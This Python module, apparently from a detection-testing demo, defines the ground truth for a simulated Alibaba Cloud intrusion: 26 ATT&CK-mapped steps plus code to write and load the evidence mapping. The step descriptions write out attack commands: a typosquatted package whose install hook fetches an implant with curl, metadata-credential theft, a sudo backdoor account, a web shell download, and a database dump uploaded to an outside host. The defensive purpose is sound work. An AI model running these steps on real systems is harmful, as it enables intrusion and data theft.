"""The ground truth: every attack step, its ATT&CK technique and tactic, and the evidence
records that show it; plus the record counts that make the benign rest measurable.

``ground-truth.json`` (schema ``trailguard-demo/1``) names records by their path relative to the
evidence folder and the record number the ingest gives them (line number; an audit event's first
line; an element of a JSON array), and ActionTrail events also by ``eventId``.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from trailguard.demo.clock import iso_z
from trailguard.demo.evidence import Recorder
from trailguard.demo.world import World

SCHEMA = "trailguard-demo/1"


@dataclass(frozen=True)
class Step:
    id: str
    title: str
    technique: str
    tactic: str
    description: str


STEPS: tuple[Step, ...] = (
    Step("S01", "Typosquatted SDK installed from a fake GitHub repository", "T1195.001",
         "initial-access",
         "On build-01 the developer wchen pip-installs aliyun-python-sdk-core from "
         "github.com/aIiyun/… (a capital I for the l of aliyun), a copy of Alibaba's SDK with "
         "a malicious setup.py. Seen in his bash history, in audit.log (pip, git) and in the "
         "flows to GitHub."),
    Step("S02", "Install hook downloads and starts the implant", "T1105",
         "command-and-control",
         "setup.py runs sh -c 'curl … https://203.0.113.66/… && chmod +x … && nohup …': "
         "the implant ~/.local/share/.sdk/aliyun-telemetry is fetched and started under "
         "wchen's login session."),
    Step("S03", "Implant persists through wchen's crontab", "T1053.003", "persistence",
         "The implant adds '@reboot …/aliyun-telemetry' to wchen's crontab (crontab -)."),
    Step("S04", "Implant surveys the host", "T1082", "discovery",
         "id, uname -a, /etc/os-release, ip addr, ps, a look at ~/.aliyun and ~/.ssh."),
    Step("S05", "Implant beacons to its C2 server over HTTPS", "T1071.001",
         "command-and-control",
         "About every ten minutes a short TLS connection from build-01 to 203.0.113.66:443 "
         "(audit connect records, VPC flow records); after build-01 is isolated on Thursday the "
         "attempts are rejected."),
    Step("S06", "Implant reads wchen's Aliyun CLI credentials", "T1552.001",
         "credential-access",
         "openat of /home/wchen/.aliyun/config.json by the implant (audit key cloud_creds)."),
    Step("S07", "Instance role credentials taken from the metadata service", "T1552.005",
         "credential-access",
         "curl http://100.100.100.200/latest/meta-data/ram/security-credentials/build-01-role "
         "run by the implant."),
    Step("S08", "Stolen credentials used from an outside address", "T1078.004",
         "initial-access",
         "GetCallerIdentity from 198.51.100.77 with wchen's AccessKey, and with build-01's "
         "role token (which only build-01 should ever use)."),
    Step("S09", "Discovery burst with the stolen key", "T1580", "discovery",
         "Some forty Describe*/List*/Get* calls in a few minutes across ECS, RAM, OSS, "
         "ActionTrail, RDS and KMS, DescribeInstances in six regions, several refused "
         "(Forbidden.RAM)."),
    Step("S10", "Backdoor RAM user created", "T1136.003", "persistence",
         "CreateUser ops-automation with wchen's key."),
    Step("S11", "AccessKey created for the backdoor user", "T1098.001", "persistence",
         "CreateAccessKey for ops-automation; the new key is used from 198.51.100.77 from then "
         "on."),
    Step("S12", "AdministratorAccess attached to the backdoor user", "T1098.003",
         "privilege-escalation",
         "AttachPolicyToUser PolicyType=System PolicyName=AdministratorAccess."),
    Step("S13", "Security group opened to the internet", "T1562.007", "defense-evasion",
         "AuthorizeSecurityGroup on web-01's group: TCP 22 and 3389 from 0.0.0.0/0 at "
         "priority 1. Internet scanners reach sshd within the hour (flows, auth.log)."),
    Step("S14", "Cloud Assistant commands run on other instances", "T1651", "execution",
         "CreateCommand + InvokeCommand on web-01 and db-01, later RunCommand on db-01; the "
         "agent on each target runs the script with bash (audit.log)."),
    Step("S15", "Local account with sudo rights created on web-01 and db-01", "T1136.001",
         "persistence",
         "useradd sysbackup, usermod -aG sudo, a NOPASSWD file in /etc/sudoers.d (auth.log, "
         "audit.log)."),
    Step("S16", "SSH key planted for the new account", "T1098.004", "persistence",
         "~sysbackup/.ssh/authorized_keys written and locked down by the same script."),
    Step("S17", "SSH from the attacker's server to web-01", "T1133", "initial-access",
         "sysbackup logs in with the planted key from 198.51.100.77, now allowed by the "
         "opened group (auth.log, audit.log, flows)."),
    Step("S18", "Web shell fetched into the shop's upload folder", "T1105",
         "command-and-control",
         "sudo curl -o /var/www/shop/public/static/upload/2026/10/thumb_cache.php "
         "http://203.0.113.66/…; the first request to it is still refused (403)."),
    Step("S19", "Nginx configuration tampered with and reloaded", "T1505.003", "persistence",
         "The rule denying PHP under /static/upload/ is cut out of /etc/nginx/nginx.conf (a "
         "first attempt breaks the file: [emerg] on reload), then nginx is reloaded."),
    Step("S20", "Web shell used", "T1059.004", "execution",
         "POST requests to thumb_cache.php from 198.51.100.77; php-fpm (www-data) runs sh -c "
         "id, uname, cat .env …; PHP warnings in the error log."),
    Step("S21", "Customer database dumped on db-01", "T1005", "collection",
         "RunCommand script: mysqldump --all-databases | gzip into /var/tmp/.sys-cache.gz."),
    Step("S22", "Dump uploaded to an external server", "T1048.002", "exfiltration",
         "curl --upload-file to https://203.0.113.200/: about 2 GB leave db-01 through the NAT "
         "gateway in twenty minutes (flow records)."),
    Step("S23", "Backups pulled from OSS", "T1530", "collection",
         "ListObjects and a burst of GetObject on acme-prod-backups with the backdoor key."),
    Step("S24", "Backup bucket made public", "T1537", "exfiltration",
         "PutBucketAcl x-oss-acl=public-read on acme-prod-backups: anyone can now download the "
         "backups."),
    Step("S25", "ActionTrail logging stopped", "T1562.008", "defense-evasion",
         "StopLogging on acme-account-trail: nothing is delivered until the responders start it "
         "again on Thursday."),
    Step("S26", "Traces removed on web-01", "T1070.004", "defense-evasion",
         "nginx.conf restored from the copy and nginx reloaded, the web shell deleted (the "
         "window of the tampering closes); the shell answers 403 again."),
)
STEP_IDS = frozenset(step.id for step in STEPS)


def ground_truth(world: World, recorder: Recorder, notes: dict[str, Any],
                 trace: dict[str, Any] | None = None) -> dict[str, Any]:
    """The ground-truth document for what ``recorder`` saw written."""
    from trailguard.detect.attack import technique

    by_step: dict[str, list[dict[str, Any]]] = {step.id: [] for step in STEPS}
    for item in recorder.evidence:
        entry: dict[str, Any] = {"file": item.file, "source_type": item.source_type,
                                 "record": item.record, "time": iso_z(item.time)}
        if item.event_id:
            entry["event_id"] = item.event_id
        by_step[item.step].append(entry)
    steps = []
    for step in STEPS:
        evidence = sorted(by_step[step.id], key=lambda e: (e["time"], e["file"], e["record"]))
        found = technique(step.technique)
        steps.append({
            "id": step.id,
            "title": step.title,
            "technique": step.technique,
            "technique_name": found[0] if found else "",
            "tactic": step.tactic,
            "description": step.description,
            "first": evidence[0]["time"] if evidence else None,
            "last": evidence[-1]["time"] if evidence else None,
            "evidence": evidence,
        })
    files = [
        {"path": stats.path, "source_type": stats.source_type, "records": stats.records,
         "attack_records": stats.attack}
        for stats in sorted(recorder.files.values(), key=lambda s: s.path)
    ]
    total = sum(stats.records for stats in recorder.files.values())
    attack = sum(stats.attack for stats in recorder.files.values())
    return {
        "schema": SCHEMA,
        "seed": world.seed,
        "window": {"start": iso_z(world.start), "end": iso_z(world.end)},
        "evidence_folder": "evidence",
        "records": {"total": total, "attack": attack, "benign": total - attack},
        "environment": notes,
        "trace": trace or {},
        "steps": steps,
        "files": files,
    }


def write(document: dict[str, Any], path: Path) -> None:
    path.write_text(json.dumps(document, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")


def load(path: Path) -> dict[str, Any]:
    loaded: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
    if loaded.get("schema") != SCHEMA:
        raise ValueError(f"{path}: not a TrailGuard demo ground truth ({SCHEMA})")
    return loaded
